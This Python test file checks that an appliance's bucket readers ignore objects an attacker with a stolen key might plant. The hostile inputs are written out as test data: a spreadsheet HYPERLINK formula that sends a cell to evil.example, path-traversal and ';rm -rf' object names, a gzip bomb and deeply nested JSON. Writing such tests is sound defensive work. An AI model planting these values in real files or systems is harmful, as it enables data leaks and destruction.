"""Whatever somebody else put into a bucket: every reader says what it says without it."""

from __future__ import annotations

import csv
import gzip
import io
import random
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import msgspec
import pytest

from appliance.bucket.bucket_folder import FolderBucket
from appliance.bucket.layout import INDEX_KEY, RowsKey, certificate_key, signature_key, state_key
from appliance.bucket.ndjson import pack
from appliance.clock import HeldClock
from appliance.ids import BoxId, EventId, new_id
from appliance.manifest.signing_minisign import MinisignVerifier
from appliance.paths import Paths, Service
from appliance.sealing_age import AgeSealer, make_key
from appliance.store.content_rows import ContentRows
from appliance.store.database import Database
from appliance.sync.fence import CardFence
from cache.probe_av import AvProbe
from lab.evenings import BEGAN, play
from provisioning.cloud.contacts import contacts
from provisioning.cloud.contacts_csv import write_csv
from provisioning.cloud.people import open_people
from provisioning.cloud.publish import Publisher
from provisioning.cloud.publish_key import ensure_publish_key
from provisioning.cloud.registry import registry_in
from provisioning.cloud.report import report
from provisioning.cloud.restored_settings import settings_from_bucket
from provisioning.cloud.restored_stock import restore_stock

SECRET, RECIPIENT = make_key()
BOX, EVENT = BoxId("cafe"), EventId("harbour-lights")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
NAMES = (
    "boxes/box=cafe/event=harbour-lights/date=2026-11-27/facts-1-2.ndjson.gz.exe",
    "boxes/box=cafe/event=..%2F..%2Fetc/date=2026-11-27/facts-0000000001-00000002.ndjson.gz",
    "boxes/box=%2Fetc/event=x/date=2026-11-27/people-0000000001-00000002.ndjson.gz",
    "boxes/box=cafe/event=harbour-lights/date=2026-13-99/facts-0000000001-00000002.ndjson.gz",
    "boxes/box=cafe/event=\u202egnp/date=2026-11-27/facts-99999999999999-1.ndjson.gz",
    "boxes/new\nline/facts", "sales/event=harbour-lights/x.ndjson.gz", "inbox/harbour-lights/;rm -rf",
)  # fmt: skip


@pytest.fixture
def honest(tmp_path: Path) -> FolderBucket:
    """One evening with facts and a person; signed by its organiser."""
    (tmp_path / "honest").mkdir()
    bucket = FolderBucket(tmp_path / "honest")
    play(bucket, BOX, EVENT, random.Random(4))  # noqa: S311 no secret
    put(bucket, "people", 1, person({"attendee": "A", "name": FORMULA, "email": "ada@example.org"}))
    Publisher(bucket, ensure_publish_key(tmp_path / "keys"), AvProbe(), HeldClock()).fence(BOX, "another")
    return bucket


@pytest.fixture
def haunted(honest: FolderBucket, tmp_path: Path) -> FolderBucket:
    """The same, and all that somebody with a stolen key, or their storage's password, could put beside it."""
    assert honest.exists(INDEX_KEY)
    shutil.copytree(tmp_path / "honest", tmp_path / "haunted")
    bucket = FolderBucket(tmp_path / "haunted")
    bomb = gzip.compress(b'{"id":"B","x":"' + b"x" * 30_000_000)
    bad = (
        bomb,
        b"",
        b"\x1f\x8b\x08cut",
        gzip.compress(b"[" * 200_000),
        pack(['{"id":[],"kind":{}}', "null", "1e999"]),
    )
    for lane in ("facts", "people"):
        for number, content in enumerate(bad, start=100):
            put(bucket, lane, number, content)
    for name in NAMES:
        bucket.put(name, bomb, "x")
    bucket.put(state_key(BOX), b"[" * 100_000, "application/json")
    bucket.put(certificate_key(BOX), b"{}", "application/json")
    return bucket


def put(bucket: FolderBucket, lane: str, number: int, content: bytes) -> None:
    bucket.put(str(RowsKey(lane, BOX, EVENT, BEGAN.date(), 7, number)), content, "x")


def person(plain: object) -> bytes:
    sealed = AgeSealer([RECIPIENT]).seal(msgspec.json.encode(plain))
    row = {
        "id": new_id(),
        "kind": "signed_up",
        "at": "2026-11-27T18:05:00.000Z",
        "receipt": "R",
        "sealed": sealed,
    }
    return pack([msgspec.json.encode(row).decode()])


def figures(bucket: FolderBucket, folder: Path) -> object:
    return replace(report(bucket, folder, EVENT), unread=0)


def people(bucket: FolderBucket, folder: Path) -> object:
    text, found = io.StringIO(newline=""), open_people(bucket, SECRET, folder)
    write_csv(contacts(list(found), found.changes), text)
    rows = list(csv.reader(io.StringIO(text.getvalue(), newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
    return rows


def clips(bucket: FolderBucket, folder: Path) -> object:
    return registry_in(bucket, folder)


def stock(bucket: FolderBucket, folder: Path) -> object:
    return restore_stock(bucket, folder / "c", BOX, Paths(folder / "box").ensure(), [EVENT], HeldClock())


def settings(bucket: FolderBucket, _folder: Path) -> object:
    return settings_from_bucket(bucket, BOX, ("key",), ("recipient",))


@pytest.mark.parametrize("read", [figures, people, clips, stock, settings])
def test_every_reader_of_the_organisers_says_the_same(
    honest: FolderBucket, haunted: FolderBucket, tmp_path: Path, read: Callable[[FolderBucket, Path], object]
) -> None:
    before = {path for path in tmp_path.parent.iterdir() if path != tmp_path}
    assert read(haunted, tmp_path / "two") == read(honest, tmp_path / "one")
    assert {path for path in tmp_path.parent.iterdir() if path != tmp_path} == before
    assert {path.name for path in tmp_path.iterdir()} <= {"honest", "haunted", "keys", "one", "two", "box"}


@pytest.mark.parametrize(
    "content", [b"[" * 100_000, b"", b"{}", b'{"format":1}' * 1000], ids=["deep", "empty", "blank", "long"]
)
def test_a_list_that_nobody_signed_lifts_no_fence_and_makes_none(
    honest: FolderBucket, paths: Paths, tmp_path: Path, content: bytes
) -> None:
    verifier = MinisignVerifier([ensure_publish_key(tmp_path / "keys").public_key])
    rows = ContentRows(Database.open_owner(paths.database(Service.SYNC), Service.SYNC), HeldClock())
    copy = FolderBucket(paths.root, "copy")
    for key in (INDEX_KEY, signature_key(INDEX_KEY)):
        copy.put(key, honest.get(key), "x")
    honest.put(INDEX_KEY, content, "x")
    assert CardFence(paths, BOX, honest, verifier, rows, HeldClock()).stands()
    fresh = Paths(tmp_path / "fresh").ensure()
    assert not CardFence(fresh, BOX, honest, verifier, rows, HeldClock()).stands()
